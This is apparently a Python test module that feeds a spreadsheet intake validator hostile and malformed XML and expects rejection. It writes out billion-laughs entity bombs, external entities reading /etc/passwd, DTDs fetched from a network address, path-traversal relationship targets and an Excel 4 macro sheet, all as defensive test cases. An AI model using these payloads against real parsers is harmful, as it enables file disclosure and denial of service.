"""The XML within: entities, broken parts, numbers that point nowhere; and what is odd but allowed."""

import re

from tests.corpus import honest
from tests.corpus.case import Case
from tests.corpus.case import Spoil
from tests.corpus.case import away
from tests.corpus.case import fine
from tests.corpus.case import here
from tests.corpus.case import room
from tests.corpus.case import told
from tests.corpus.files import noise
from tests.corpus.parts import BOOK
from tests.corpus.parts import BOOK_RELS
from tests.corpus.parts import FORM_PART
from tests.corpus.parts import MAIN
from tests.corpus.parts import OFFICE
from tests.corpus.parts import STYLES
from tests.corpus.parts import TEXTS
from tests.corpus.parts import TYPES
from tests.corpus.parts import cell
from tests.corpus.parts import edit
from tests.corpus.parts import in_table
from tests.corpus.parts import put
from tests.corpus.parts import sub
from tests.corpus.parts import text
from tests.intake.bench import Bench
from tests.intake.spoil import typed
from tests.intake.test_resaves import shared_strings

LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(10)
)
MACHINE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
EMPTY = "<!DOCTYPE x>"
NEVER = "unsafe_content"
BAD = "damaged"
CONTROL = "application/vnd.ms-excel.controlproperties+xml"


def dtd(name: str, doctype: str) -> Spoil:
    """Return a spoiler that puts a document type in front of a part."""
    base = shared_strings if name == TEXTS else bytes
    return edit(name, lambda part: doctype + re.sub(r"^\s*<\?xml.*?\?>", "", part), base)


def used(name: str, doctype: str, entity: str) -> Spoil:
    """Return a spoiler that declares an entity and uses it in a text of the form."""

    def change(part: str) -> str:
        return doctype + re.sub(r"(?<=<t>)[^<]*", f"&{entity};", part, count=1)

    return edit(name, change)


def deep(bench: Bench) -> bytes:
    """Return the return with 100,000 elements each within the other."""
    levels = 100_000
    return sub(FORM_PART, "</worksheet>", f"{'<a>' * levels}{'</a>' * levels}</worksheet>")(bench)


def names(count: int) -> str:
    """Return so many defined names."""
    return "".join(f'<definedName name="n{n}">Sheet1!$A${n + 1}</definedName>' for n in range(count))


ENTITIES = room(
    "xml",
    away("a billion laughs in the form sheet", used(FORM_PART, f"<!DOCTYPE x [{LAUGHS}]>", "l9"), NEVER),
    away("a file of the machine as an entity", used(FORM_PART, MACHINE, "e"), NEVER),
    away("an entity of one letter", used(FORM_PART, '<!DOCTYPE x [<!ENTITY e "a">]>', "e"), NEVER),
    away("an entity nobody declared", used(FORM_PART, "", "nbsp"), BAD),
    away("a DTD from the network", dtd(FORM_PART, '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">'), NEVER),
    away("a parameter entity", dtd(BOOK, '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/">%p;]>'), NEVER),
    away("an empty DTD in the form sheet", dtd(FORM_PART, EMPTY), NEVER),
    away("an empty DTD in the workbook part", dtd(BOOK, EMPTY), NEVER),
    away("an empty DTD in the texts", dtd(TEXTS, EMPTY), NEVER),
    away("an empty DTD in the styles", dtd(STYLES, EMPTY), NEVER),
    away("an empty DTD in the content types", dtd(TYPES, EMPTY), NEVER),
    away("an empty DTD in the relations", dtd(BOOK_RELS, EMPTY), NEVER),
    away("an empty DTD in the properties", dtd("docProps/core.xml", EMPTY), NEVER),
    away("an empty DTD in the theme", dtd("xl/theme/theme1.xml", EMPTY), NEVER),
    away("a DTD in a part nobody reads", put({"customXml/item1.xml": f"{MACHINE}<x>&e;</x>"}), NEVER),
    away("a DTD in a drawing", put({"xl/drawings/vmlDrawing1.vml": f"{EMPTY}<xml/>"}), NEVER),
    away("a DTD in UTF-16", edit(FORM_PART, lambda part: (EMPTY + part).encode("utf-16")), NEVER),
    away("a DTD in UTF-16 the other way round", edit(
        FORM_PART, lambda part: b"\xfe\xff" + (EMPTY + part).encode("utf-16-be")), NEVER),
    away("a DTD behind 200 kB of comment", dtd(FORM_PART, f"<!--{'x' * 200_000}-->{EMPTY}"), NEVER),
    away("a DTD behind noise in a comment", dtd(FORM_PART, f"<!--{noise(300_000).hex()}-->{EMPTY}"), NEVER),
    told("a document type typed as text", typed("L48", '<!DOCTYPE html><!ENTITY x "y">')),
)  # fmt: skip

BROKEN = room(
    "xml",
    away("an end tag of another name", sub(FORM_PART, "</sheetData>", "</sheetDatum>"), BAD),
    away("cut within a tag", edit(FORM_PART, lambda part: part[:9000]), BAD),
    away("an attribute twice", sub(FORM_PART, '<c r="D7"', '<c r="D7" r="D7"'), BAD),
    away("a control character", text("B13", "一\x01二"), BAD),
    away("a control character as a number", text("B13", "一&#1;二"), BAD),
    away("half a character as a number", text("B13", "一&#xD800;二"), BAD),
    away("a bare ampersand", text("B13", "A & B"), BAD),
    away("text that is no UTF-8", edit(FORM_PART, lambda part: part.encode().replace(b"<t>", b"<t>\xff\xfe", 1)), BAD),
    away("two roots", edit(FORM_PART, lambda part: part + "<x/>"), BAD),
    away("zeros behind the root", edit(FORM_PART, lambda part: part.encode() + b"\0" * 9), f"{BAD}|{NEVER}"),
    away("a part of blanks", edit(FORM_PART, lambda _: "   "), BAD),
    away("the workbook part is a web page", edit(BOOK, lambda _: "<html></html>"), BAD),
    away("the form sheet is another root", edit(FORM_PART, lambda _: f'<chart xmlns="{MAIN}"/>'), BAD),
    Case("100,000 elements deep", deep, "quarantined|accepted", may=(BAD, NEVER)),
    away("30 MB in one attribute", sub(FORM_PART, "<row ", f'<row x="{"x" * 30_000_000}" '), f"{NEVER}|too_large"),
    away("50,000 names", sub(BOOK, "</definedNames>", f"{names(50_000)}</definedNames>"),
         f"{BAD}|{NEVER}|too_large"),
    away("text number -1", cell("D4", "<v>-1</v>", 't="s"'), BAD),
    away("a text number beyond the table", in_table(r'(<c r="D4"[^>]*><v>)\d+', r"\g<1>99999", FORM_PART), BAD),
    away("a text number that is none", in_table(r'(<c r="D4"[^>]*><v>)\d+', r"\g<1>x", FORM_PART), BAD),
    away("text numbers and no table", cell("D4", "<v>0</v>", 't="s"'), BAD),
    away("a style beyond the list", cell("D7", "<v>150</v>", style="99999"), BAD),
    away("style number -1", cell("D7", "<v>150</v>", style="-1"), BAD),
    away("a cell named ZZZZ99999999", sub(FORM_PART, '<c r="D7"', '<c r="ZZZZ99999999"'), BAD),
    away("a cell named D0", sub(FORM_PART, '<c r="D7"', '<c r="D0"'), BAD),
    away("a cell named 7", sub(FORM_PART, '<c r="D7"', '<c r="7"'), BAD),
    away("a row numbered 0", sub(FORM_PART, '<row r="7"', '<row r="0"'), BAD),
    away("a row numbered 1048577", sub(FORM_PART, "</sheetData>", '<row r="1048577"/></sheetData>'), BAD),
    away("a cell in another row than it says", sub(FORM_PART, '<c r="D7"', '<c r="D70"'), BAD),
    away("the same cell twice", sub(FORM_PART, '(?=<c r="E7")', '<c r="D7"><v>99</v></c>'), BAD),
    away("the same row twice", sub(FORM_PART, '(?=<row r="8")', '<row r="7"><c r="P7"><v>9</v></c></row>'), BAD),
    away("rows out of order", sub(
        FORM_PART, '(<row r="7".*?</row>)(<row r="8".*?</row>)', r"\2\1"), BAD),
    away("cells out of order", sub(FORM_PART, '(<c r="C7".*?</c>)(<c r="D7".*?</c>)', r"\2\1"), BAD),
    away("two sheets of one name", sub(BOOK, 'name="填报自检"', 'name="绩效目标表"'), BAD),
    away("a sheet without a relation", sub(BOOK_RELS, 'Id="rId2"', 'Id="rId222"'), BAD),
    away("a sheet that is a styles part", sub(BOOK_RELS, "worksheets/sheet2.xml", "styles.xml"), BAD),
    away("a sheet outside the file", sub(
        BOOK_RELS, 'Target="[^"]*sheet2.xml"', 'Target="../../../../../etc/passwd"'), f"{BAD}|{NEVER}"),
    away("a sheet on the network", sub(
        BOOK_RELS, 'Target="[^"]*sheet2.xml"', 'Target="http://192.0.2.1/x.xml" TargetMode="External"'),
        f"{BAD}|{NEVER}"),
    Case("two sheets of one part", sub(BOOK_RELS, "sheet3.xml", "sheet2.xml"), "quarantined|blocked",
         ("damaged|locked_cell_changed|formula_changed|layout_changed",), may=("*",)),
    away("a macro sheet of Excel 4", put(
        {"xl/macrosheets/sheet1.xml": f'<xm:macrosheet xmlns:xm="{MAIN}"/>'},
        types='<Override PartName="/xl/macrosheets/sheet1.xml" '
              'ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
        rels='<Relationship Id="rId98" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" '
             'Target="macrosheets/sheet1.xml"/>'), NEVER),
)  # fmt: skip

ALLOWED = room(
    "xml",
    fine("sheets in UTF-16", lambda bench: honest.utf16(bench.good)),
    fine("a byte order mark on each part", lambda bench: honest.headed(bench.good)),
    fine("a prefix on every element", lambda bench: honest.prefixed(bench.good)),
    fine("blanks between all elements", lambda bench: honest.pretty(bench.good)),
    fine("comments and instructions amid the cells", lambda bench: honest.with_comments(bench.good)),
    fine("attributes in single quotes", lambda bench: honest.single_quotes(bench.good)),
    fine("letters as numbers of characters", lambda bench: honest.references_everywhere(bench.good)),
    fine("texts in CDATA", lambda bench: honest.in_cdata(bench.good)),
    fine("cells that do not say where they are", lambda bench: honest.unplaced(bench.good)),
    fine("parts under other names", lambda bench: honest.moved_parts(bench.good)),
    fine("relations under other names", lambda bench: honest.renumbered_relations(bench.good)),
    fine("contents for newer programs", lambda bench: honest.alternate(bench.good)),
    fine("xml:space on every text", lambda bench: honest.spaced(bench.good)),
    fine("a million rows with only a height", lambda bench: honest.far_rows(
        60, 1_048_576, '<row r="{0}" ht="15" customHeight="1"/>')(bench.good)),
    fine("200,000 rows of styled blanks", lambda bench: honest.far_rows(
        60, 200_059, '<row r="{0}"><c r="A{0}" s="2"/><c r="B{0}" s="2"/></row>')(bench.good)),
    fine("65,000 styles", lambda bench: honest.many_styles(bench.good)),
    fine("a count of texts far too high", in_table("<sst ", '<sst count="4294967295" uniqueCount="4294967295" ')),
    fine("an extension nobody knows", sub(
        FORM_PART, "</worksheet>", '<extLst><ext uri="{x}"><y xmlns="urn:y"/></ext></extLst></worksheet>')),
    fine("settings of a printer", put(
        {"xl/printerSettings/printerSettings1.bin": noise(3000)},
        types='<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
              'printerSettings"/>',
        sheet_rels=f'<Relationship Id="rId1" Type="{OFFICE}/printerSettings" '
                   'Target="../printerSettings/printerSettings1.bin"/>')),
    told("a cell at the end of the sheet", typed("XFD1048576", "x"), "outside_the_form", where=here("XFD1048576")),
)  # fmt: skip
